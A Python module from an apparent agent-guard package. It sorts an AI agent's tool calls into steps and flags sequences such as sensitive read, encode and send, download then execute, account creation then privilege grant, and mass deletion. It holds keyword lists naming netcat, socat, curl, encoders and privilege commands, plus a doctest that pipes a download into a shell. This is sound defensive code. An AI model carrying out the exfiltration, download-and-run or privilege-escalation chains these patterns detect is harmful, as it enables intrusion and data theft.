"""Which steps a call takes, and which unusual order of steps it completes.  Cheap text tests, no parsing.

    sensitive read > encode > outbound   something of level internal or above was read, then encoded, packed or
                                         encrypted by a command, then something is sent out
    enumerate > delete                   after a listing, the third deletion by a tool or a command that deletes
                                         in a service (kubectl, cloud and database clients; not `rm`)
    create account > grant               rights for an account that this session created
    download > execute                   a file that was downloaded is run, or a download is piped into an interpreter
    denied > repeated                    the same call again after it was denied

A step counts for the next REACH actions.  The trail holds numbers, file names and keyed fingerprints only.

Cannot see: steps inside scripts, encodings that the model writes by hand (the information-flow guards
see those), a downloaded file under a second name.
"""
from __future__ import annotations

from guards import INTERNAL
from guards._call.tags import shell_command

TYPE_CHECKING = False
if TYPE_CHECKING:
    from typing import Any

    from guards import Event, Settings

REACH = 40
DELETIONS = 3
KEPT = 16

ENCODERS = frozenset((
    "7z", "age", "base32", "base64", "basenc", "bzip2", "gpg", "gzip", "hexdump", "od", "openssl", "tar", "uuencode",
    "xxd", "xz", "zip", "zstd"))
DOWNLOADERS = frozenset(("aria2c", "curl", "wget"))
SENDERS = frozenset((
    "ftp", "mail", "mailx", "mutt", "nc", "ncat", "netcat", "rclone", "s3cmd", "scp", "sendmail", "sftp", "socat",
    "ssh", "telnet"))
SENDING = ("-d", "--data", "-F", "--form", "-T", "--upload-file", "--post-", "--json", "--body-", "-X", "--request")
INTERPRETERS = frozenset((
    ".", "bash", "dash", "deno", "fish", "ksh", "node", "perl", "php", "pwsh", "python", "python3", "ruby", "sh",
    "source", "zsh"))
PREFIXES = frozenset((
    "sudo", "env", "nohup", "time", "nice", "exec", "command", "doas", "then", "do", "else", "{", "("))
ACCOUNT_MARKS = (
    "useradd ", "adduser ", "createuser ", "create user ", "create-user", "create-login-profile", "create-access-key",
    "create serviceaccount", "service-accounts create", "ad user create", "ad sp create", "-adduser", "net user ")
GRANT_MARKS = (
    "usermod ", "gpasswd ", "visudo", "/etc/sudoers", "attach-user-policy", "put-user-policy", "add-user-to-group",
    "add-iam-policy-binding", "clusterrolebinding", "create rolebinding", "role assignment create", "grant ",
    "dseditgroup", "net localgroup")
SERVICE_MARKS = (
    "kubectl", "aws ", "gcloud ", "az ", "gh ", "helm ", "terraform ", "psql", "mysql", "mongo", "redis-cli",
    "drop table", "drop database")
DELETE_WORDS = frozenset(("delete", "destroy", "drop", "purge", "remove", "rm", "truncate", "uninstall", "wipe"))
LIST_WORDS = frozenset(("describe", "enumerate", "find", "get", "list", "ls", "search", "select", "show"))
ACCOUNT_WORDS = frozenset(("account", "accounts", "user", "users", "member", "key", "token", "serviceaccount"))
CREATE_WORDS = frozenset(("create", "register", "new", "provision"))
GRANT_WORDS = frozenset(("grant", "assign", "attach", "elevate", "promote"))
RIGHT_WORDS = frozenset(("role", "roles", "permission", "permissions", "policy", "admin", "access", "privilege"))
COMMON = frozenset((
    "add", "admin", "adduser", "attach", "aws", "binding", "create", "gcloud", "grant", "group", "iam", "kubectl",
    "name", "net", "policy", "role", "sudo", "user", "useradd", "usermod", "users", "wheel", "with"))
ENCODE_WORDS = frozenset(("encode", "encrypt", "compress", "zip", "archive"))


def steps(event: Event) -> list[tuple[str, str]]:
    """(step, what it is about), in the order of the call; "send" only for commands: of other tools the tags know.

    >>> from guards import Event
    >>> command = "curl -so /tmp/i.sh https://x.example && sh /tmp/i.sh"
    >>> steps(Event("PreToolUse", "s", tool="Bash", input={"command": command}))
    [('download', 'i.sh'), ('execute', 'i.sh')]
    """
    command = shell_command(event)
    if command or event.tool == "Bash":
        return _of_command(command)
    if event.tool in ("Read", "NotebookRead"):
        path = event.input.get("file_path")
        return [("sensitive", "")] if isinstance(path, str) and _sensitive(path) else []
    return _of_name(event) if event.tool.startswith("mcp__") else []


def _of_command(command: str) -> list[tuple[str, str]]:
    if len(command) > 20_000:
        command = command[:20_000]
    found: list[tuple[str, str]] = []
    lower = command.lower()
    before = ""
    for part in _parts(command):
        piped = part[0] == "|"
        words = part.lstrip("|").split()
        while words and (words[0] in PREFIXES or "=" in words[0].split("/")[0]):
            words = words[1:]
        if not words:
            before = ""
            continue
        program = _name(words[0])
        rest = [w.strip("'\"") for w in words[1:]]
        found += _of_program(program, rest, piped and before in DOWNLOADERS)
        before = program if program != "tee" else before
    if any(mark in lower for mark in ACCOUNT_MARKS):
        found += [("account", w) for w in _names(command)]
    if any(mark in lower for mark in GRANT_MARKS):
        found += [("grant", w) for w in _names(command)]
    if any(mark in lower for mark in SERVICE_MARKS):
        said = frozenset(lower.replace("-", " ").replace("'", " ").replace('"', " ").split())
        found += [("delete", "")] if said & DELETE_WORDS else [("enumerate", "")] if said & LIST_WORDS else []
    return found


def _parts(command: str) -> list[str]:
    """Simple commands; one that reads the pipe of the command before it starts with `| `."""
    text = command.replace("\\\n", " ").replace("||", "\n").replace("&&", "\n").replace(";", "\n").replace("|", "\n| ")
    return [p for p in (part.strip() for part in text.replace("$(", "\n").replace("`", "\n").split("\n")) if p]


def _of_program(program: str, rest: list[str], fed: bool) -> list[tuple[str, str]]:
    found: list[tuple[str, str]] = []
    if program in DOWNLOADERS:
        if any(w.startswith(SENDING) or ("://" in w and "?" in w) for w in rest):
            found.append(("send", ""))
        return found + [("download", name) for name in _saved(program, rest)]
    if program in SENDERS or (program == "rsync" and any(":" in w for w in rest)):
        found.append(("send", ""))
    if program not in ("echo", "printf", "ls", "git", "grep", "rg") and any(_sensitive(w) for w in rest if len(w) > 3):
        found.append(("sensitive", ""))
    if program in ENCODERS and not {"-d", "-D", "--decode", "-x", "-xf", "xf", "xzf", "-xzf", "-l", "-t"} & set(rest):
        found.append(("encode", ""))
    if program in INTERPRETERS:
        if fed:
            found += [("download", "|"), ("execute", "|")]
        found += [("execute", _name(w)) for w in rest[:3] if not w.startswith("-")]
    else:
        found.append(("execute", program))
    return found


def _saved(program: str, rest: list[str]) -> list[str]:
    names = []
    for place, word in enumerate(rest):
        after = rest[place + 1] if place + 1 < len(rest) else ""
        if word in ("-o", "--output", "--output-document", ">") or (word[:1] == "-" and word[1:2] != "-" and
                                                                   word[-1:] in "oO" and after and "://" not in after):
            names.append(_name(after))
        elif "://" in word and (program != "curl" or any(w[:1] == "-" and w[1:2] != "-" and "O" in w for w in rest)):
            names.append(_name(word.split("?")[0]))
        elif word.startswith(">") and len(word) > 1:
            names.append(_name(word.lstrip(">")))
    return [n for n in names if n and n not in ("-", "null")]


def _of_name(event: Event) -> list[tuple[str, str]]:
    said = frozenset(name_words(event.tool.split("__", 2)[-1]))
    values = [v for v in event.input.values() if isinstance(v, str) and 2 < len(v) <= 120]
    found: list[tuple[str, str]] = []
    if said & ENCODE_WORDS:
        found.append(("encode", ""))
    if "download" in said:
        found += [("download", _name(v.split("?")[0])) for v in values if "/" in v or "." in v]
    if said & CREATE_WORDS and said & ACCOUNT_WORDS:
        found += [("account", v) for v in values]
    if said & GRANT_WORDS or (said & RIGHT_WORDS and said & {"add", "set", "update", "change"}):
        found += [("grant", v) for v in values]
    if said & DELETE_WORDS:
        found.append(("delete", ""))
    elif said & LIST_WORDS:
        found.append(("enumerate", ""))
    return found


def name_words(name: str) -> list[str]:
    """A tool's name in words.

    >>> name_words("createUser_account")
    ['create', 'user', 'account']
    """
    split = "".join(f"_{c.lower()}" if c.isupper() else c for c in name)
    return [w for w in split.replace("-", "_").replace(".", "_").split("_") if w]


def _names(command: str) -> list[str]:
    found = dict.fromkeys(w.strip("'\"`;,()") for w in command.replace("=", " ").split())
    return [w for w in found if 2 < len(w) <= 80 and w[0].isalnum() and w.lower() not in COMMON][:12]


def _name(path: str) -> str:
    return path.rstrip("/").replace("\\", "/").rsplit("/", 1)[-1].strip("'\"()")[:80]


def _sensitive(path: str) -> bool:
    from guards._sensitive.paths import path_level

    return path_level(path) >= INTERNAL


def complete(trail: dict[str, Any], taken: list[tuple[str, str]], now: int, settings: Settings) -> str:
    """The unusual sequence that these steps bring to its end, "" for none.  `now` is the number of this action."""
    downloads = {n for n, at in trail.get("downloads", {}).items() if now - at <= REACH}
    accounts = trail.get("accounts", {})
    sensitive, encoded = _fresh(trail, "sensitive", now), _fresh(trail, "encode", now)
    listed, deleted = _fresh(trail, "listed", now), int(trail.get("deleted", 0))
    for step, about in taken:
        if step == "sensitive":
            sensitive = True
        elif step == "encode":
            encoded = encoded or sensitive
        elif step == "send" and sensitive and encoded:
            return "sensitive read > encode > outbound"
        elif step == "download":
            downloads.add(about)
        elif step == "execute" and about in downloads:
            return "download > execute"
        elif step == "grant" and accounts and mark(about, settings) in accounts:
            return "create account > grant"
        elif step == "delete" and listed and deleted + 1 >= DELETIONS:
            return "enumerate > delete"
    return ""


def _fresh(trail: dict[str, Any], step: str, now: int) -> bool:
    return step in trail and now - int(trail[step]) <= REACH


def advance(trail: dict[str, Any], taken: list[tuple[str, str]], now: int, settings: Settings) -> dict[str, Any]:
    """The trail after these steps; the same object where nothing changed."""
    new = trail
    for step, about in taken:
        if step == "sensitive":
            new = {**new, "sensitive": now}
        elif step == "encode" and _fresh(new, "sensitive", now):
            new = {**new, "encode": now}
        elif step == "enumerate":
            new = {**new, "listed": now}
        elif step == "delete":
            new = {**new, "deleted": int(new.get("deleted", 0)) + 1}
        elif step == "download" and about != "|":
            new = {**new, "downloads": _kept(new.get("downloads", {}), about, now)}
        elif step == "account":
            new = {**new, "accounts": _kept(new.get("accounts", {}), mark(about, settings), now)}
    return new


def _kept(old: dict[str, int], name: str, now: int) -> dict[str, int]:
    new = {**old, name: now}
    for first in list(new)[:max(0, len(new) - KEPT)]:
        del new[first]
    return new


def mark(text: str, settings: Settings) -> str:
    """A keyed fingerprint of a name, short."""
    from guards._text.fingerprint import fingerprint

    return fingerprint(text.strip().lower(), settings.key)[:12]


def repeated(trail: dict[str, Any], event: Event, settings: Settings) -> bool:
    """True where this very call was denied before in this session."""
    denied = trail.get("denied") or {}
    return bool(denied) and call_mark(event, settings) in denied


def deny(trail: dict[str, Any], event: Event, now: int, settings: Settings) -> dict[str, Any]:
    """The trail after this call was denied."""
    return {**trail, "denied": _kept(trail.get("denied", {}), call_mark(event, settings), now)}


def call_mark(event: Event, settings: Settings) -> str:
    return mark(f"{event.tool}\n{event.facts.get('text', '')}", settings)
